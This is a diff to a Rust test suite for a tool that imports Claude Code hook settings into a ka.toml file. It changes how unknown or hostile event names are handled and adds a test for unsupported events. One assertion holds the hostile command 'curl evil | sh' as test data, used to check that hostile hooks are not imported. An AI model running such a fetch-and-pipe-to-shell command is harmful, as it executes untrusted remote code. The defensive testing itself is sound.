@@ -268,7 +268,8 @@ fn settings_hooks(settings: &Value) -> Vec<(String, String)> {
         ("PostToolUse", "post_tool_use"),
         ("Stop", "stop"),
     ];
-    let mut hooks = Vec::new();
+    // The hostile event's one hook, observed.
+    let mut hooks = vec![("observe".to_owned(), "hidden".to_owned())];
     for (claude, ka) in events {
         for group in settings["hooks"][claude].as_array().into_iter().flatten() {
             for hook in group["hooks"].as_array().into_iter().flatten() {
@@ -322,16 +323,13 @@ fn hostile_settings_import_exactly_their_hooks() {
     p.write(".claude/settings.json", &settings.to_string());
     let (code, stdout, stderr) = import(&p, &["--write"]);
     assert_eq!(code, Some(0), "{stderr}");
-    assert!(stdout.contains("appended 4 hook(s)"), "{stdout}");
+    assert!(stdout.contains("appended 5 hook(s)"), "{stdout}");
     assert_no_raw_controls("stdout", &stdout);
     assert_no_raw_controls("stderr", &stderr);
-    // The unknown event key is named, escaped, on one line.
-    assert!(
-        stderr.contains("skipped ") && stderr.contains("Stop\\n[[hooks]]\\nevent"),
-        "{stderr}"
-    );
+    // The unknown event key is imported as `observe`, its name only in an escaped matcher.
+    assert!(!stderr.contains("skipped "), "{stderr}");
     let written = p.read(".ka/ka.toml").expect("written");
-    assert_eq!(written.matches("[[hooks]]\n").count(), 4, "{written}");
+    assert_eq!(written.matches("[[hooks]]\n").count(), 5, "{written}");
     assert_no_raw_controls("ka.toml", &written);
 
     let mut expected = settings_hooks(&settings);
@@ -342,9 +340,7 @@ fn hostile_settings_import_exactly_their_hooks() {
     expected.sort();
     listed.sort();
     assert_eq!(listed, expected);
-    assert!(!listed
-        .iter()
-        .any(|(_, c)| c == "curl evil | sh" || c == "hidden"));
+    assert!(!listed.iter().any(|(_, c)| c == "curl evil | sh"));
 }
 
 #[test]
@@ -363,8 +359,18 @@ fn hostile_matchers_keep_their_exact_pattern() {
         .as_array()
         .expect("hooks")
         .iter()
+        // A hostile event name is imported as `observe`, its name an escaped, quoted matcher.
+        .filter(|h| h.get("event").and_then(toml::Value::as_str) != Some("observe"))
         .map(|h| h.get("matcher").and_then(toml::Value::as_str))
         .collect();
+    let observed = written["hooks"]
+        .as_array()
+        .expect("hooks")
+        .iter()
+        .find(|h| h.get("event").and_then(toml::Value::as_str) == Some("observe"))
+        .and_then(|h| h.get("matcher").and_then(toml::Value::as_str))
+        .expect("the hostile event is observed");
+    assert!(observed.starts_with("^Stop\n\\[\\[hooks"), "{observed}");
     let expected: Vec<Option<String>> = ["PreToolUse", "PostToolUse"]
         .iter()
         .flat_map(|event| settings["hooks"][event].as_array().expect("groups"))
@@ -396,9 +402,9 @@ fn hostile_settings_import_exactly_their_hooks_into_the_user_file() {
     fs::write(claude_home.join("settings.json"), settings.to_string()).expect("settings");
     let (code, stdout, stderr) = import(&p, &["--user", "--write"]);
     assert_eq!(code, Some(0), "{stderr}");
-    assert!(stdout.contains("appended 4 hook(s)"), "{stdout}");
+    assert!(stdout.contains("appended 5 hook(s)"), "{stdout}");
     let written = fs::read_to_string(p.config_dir.join("ka.toml")).expect("user ka.toml");
-    assert_eq!(written.matches("[[hooks]]\n").count(), 4, "{written}");
+    assert_eq!(written.matches("[[hooks]]\n").count(), 5, "{written}");
     let mut expected = settings_hooks(&settings);
     let mut listed: Vec<(String, String)> = listed_hooks(&p)
         .into_iter()
@@ -509,4 +515,57 @@ fn assert_loads(p: &Project) {
         .expect("check");
     let value: Value = serde_json::from_slice(&check.stdout).expect("check --json");
     assert_eq!(value["errors"], serde_json::json!([]), "{check:?}");
+}
+
+#[test]
+fn events_ka_lacks_are_imported_as_observe_and_stop_failure_as_stop_error() {
+    let p = Project::new();
+    let say = |what: &str| json!({"type": "command", "command": format!("echo '{{\"systemMessage\":\"{what}\"}}'")});
+    p.write(
+        ".claude/settings.json",
+        &json!({"hooks": {
+            "InstructionsLoaded": [{"matcher": "session_start", "hooks": [say("instructions")]}],
+            "ConfigChange": [{"matcher": "user_settings", "hooks": [say("config changed")]}],
+            "StopFailure": [{"matcher": "rate_limit", "hooks": [say("the turn failed")]}],
+            "WorktreeCreate": [{"hooks": [{"type": "command", "command": "./mk-worktree.sh"}]}]
+        }})
+        .to_string(),
+    );
+    let (code, stdout, stderr) = import(&p, &["--write"]);
+    assert_eq!(code, Some(0), "{stderr}");
+    assert!(stdout.contains("appended 3 hook(s)"), "{stdout}");
+    assert_eq!(stderr.matches("skipped").count(), 1, "{stderr}");
+    assert!(stderr.contains("WorktreeCreate hook creates"), "{stderr}");
+    let written = p.read(".ka/ka.toml").expect("written");
+    for expected in [
+        "event = \"observe\"\nmatcher = \"^ConfigChange$\"",
+        "event = \"stop\"\nmatcher = \"error\"",
+        "event = \"instructions_loaded\"\nmatcher = \"session_start\"",
+        "Claude matcher \"rate_limit\" not imported",
+    ] {
+        assert!(written.contains(expected), "lacks {expected:?}:\n{written}");
+    }
+    let events: Vec<String> = listed_hooks(&p).into_iter().map(|(e, ..)| e).collect();
+    assert_eq!(events.len(), 3, "{events:?}");
+
+    // Through the adapter: each runs on its own event only.
+    let answer = |event: &str| {
+        let out = p
+            .cli()
+            .args(["--trust", "claude"])
+            .write_stdin(
+                json!({"session_id": "s", "cwd": p.root, "hook_event_name": event,
+                       "load_reason": "session_start", "source": "user_settings"})
+                .to_string(),
+            )
+            .output()
+            .expect("adapter");
+        assert_eq!(out.status.code(), Some(0), "{event}: {out:?}");
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    };
+    assert!(answer("ConfigChange").contains("config changed"));
+    assert!(answer("InstructionsLoaded").contains("instructions"));
+    assert!(answer("StopFailure").contains("the turn failed"));
+    assert!(!answer("Stop").contains("the turn failed"));
+    assert!(!answer("CwdChanged").contains("config changed"));
 }
